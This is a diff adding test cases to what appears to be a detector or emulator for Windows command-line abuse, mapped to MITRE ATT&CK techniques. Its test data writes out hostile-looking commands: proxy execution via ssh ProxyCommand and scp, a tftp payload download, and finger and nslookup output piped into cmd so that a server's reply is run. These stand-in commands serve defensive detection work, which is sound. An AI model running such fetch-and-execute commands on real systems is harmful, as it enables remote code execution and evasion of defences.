@@ -42,6 +42,10 @@ def values(items, kind):
         ("schtasks /create /tn a /tr calc.exe /sc minute", "schtasks", "calc.exe", "T1053.005"),
         ('forfiles /p c:\\windows /m notepad.exe /c "cmd /c 0x63alc.exe"', "forfiles", "cmd /c calc.exe", "T1202"),
         ("pcalua -a calc.exe", "pcalua", "calc.exe", "T1202"),
+        ('ssh -o ProxyCommand="calc.exe" a@b', "ssh", "calc.exe", "T1202"),
+        ("scp -S calc.exe a b:c", "scp", "calc.exe", "T1202"),
+        (f"cscript C:\\Windows\\System32\\pubprn.vbs 127.0.0.1 script:{A}", "pubprn", A, "T1216.001"),
+        ("tftp -i 192.0.2.4 GET a.exe b.exe", "tftp", "tftp://192.0.2.4/a.exe", "T1105"),
         ("conhost calc.exe", "conhost", "calc.exe", "T1202"),
         (f"cmstp /ni /s {A}.inf", "cmstp", f"{A}.inf", "T1218.003"),
         ("odbcconf /a {REGSVR C:\\x.dll}", "odbcconf", r"C:\x.dll", "T1218.008"),
@@ -124,3 +128,31 @@ def test_a_registry_value_that_windows_starts():
 def test_a_page_has_the_environment_of_the_line_that_starts_it(code, setting):
     items = run(f'cmd /c "set xm=iwr "http://a"&&mshta {code}"')
     assert setting in next(i.data.decode() for i in items if isinstance(i, Child) and i.kind == "script.hta")
+
+
+@pytest.mark.parametrize(
+    ("line", "command"),
+    [
+        ("finger a@files.example.test | cmd", "<Unknown: output of finger a@files.example.test>"),
+        ("for /f \"skip=20 delims=\" %i in ('finger a@files.example.test') do call %i", "<Unknown: output of finger a@files.example.test>"),
+        ("finger a@files.example.test | findstr /v login | more +2 | cmd", "<Unknown: output of finger a@files.example.test>"),
+        ("for /f \"tokens=2 delims==\" %a in ('nslookup -q^=txt files.example.test ^| find \"text\"') do %~a", "<Unknown: output of nslookup files.example.test>"),
+        ('rundll32 advpack.dll,RegisterOCX "cmd /c net user"', "net user"),
+        ('ssh -o ProxyCommand="cmd /c net user" a@b', "net user"),
+    ],
+)  # fmt: skip
+def test_what_a_server_answers_is_run(line, command):
+    assert command in values(run(line), "effect.run")
+
+
+def test_click_once_is_fetched():
+    assert values(run(f"rundll32 dfshim.dll,ShOpenVerbApplication {A}"), "effect.download") == [A]
+
+
+def test_a_folder_of_another_computer():
+    assert values(run(r"pushd \\files.example.test\a"), "effect.open") == [r"\\files.example.test\a"]
+
+
+def test_the_exit_code_as_a_letter():
+    found = run("@echo off\ncmd /c exit 65\nnet %=ExitCodeAscii% %=ExitCode%", "a.bat")
+    assert "net A 00000041" in values(found, "effect.run")
